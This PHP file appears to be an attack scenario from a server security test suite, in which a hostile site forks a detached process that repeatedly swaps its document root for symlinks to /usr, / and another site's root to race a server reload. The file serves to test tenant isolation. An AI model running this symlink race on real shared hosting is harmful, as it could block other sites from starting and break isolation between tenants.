<?php
/*
 * Exchanges its document root for links to folders that other sites need.
 *
 * Attacker: owns the folder above its document root. A process that outlives the request exchanges
 *   the root for a link to /usr, to / and to site B's root, and back, also while the server reloads
 *   and reads where the root is.
 * Must not happen: a pool of site B is kept from /usr, or from its own root, and does not start;
 *   the reload fails.
 * Checked: a reload during the exchanges works, and site B serves afterwards; site A serves between
 *   two exchanges.
 */
require __DIR__ . '/attack.php';

const ROOT = __DIR__;

function exchange(string $target): bool
{
    // LOOT leads through the root.
    $kept = dirname(ROOT) . '/loot/kept';
    if (!rename(ROOT, $kept)) {
        return false;
    }
    $is_linked = symlink($target, ROOT);
    usleep(100_000);
    unlink(ROOT);
    return rename($kept, ROOT) && $is_linked;
}

$scene = scene();
$only = fopen(LOOT . '/exchanges', 'c');
if (flock($only, LOCK_EX | LOCK_NB) && pcntl_fork() === 0) {
    posix_setsid();
    chdir('/');
    for ($until = microtime(true) + 20; microtime(true) < $until;) {
        foreach (['/usr', '/', $scene->other_root] as $target) {
            if (exchange($target)) {
                tried("a link to $target");
            }
            usleep(100_000);
        }
    }
}
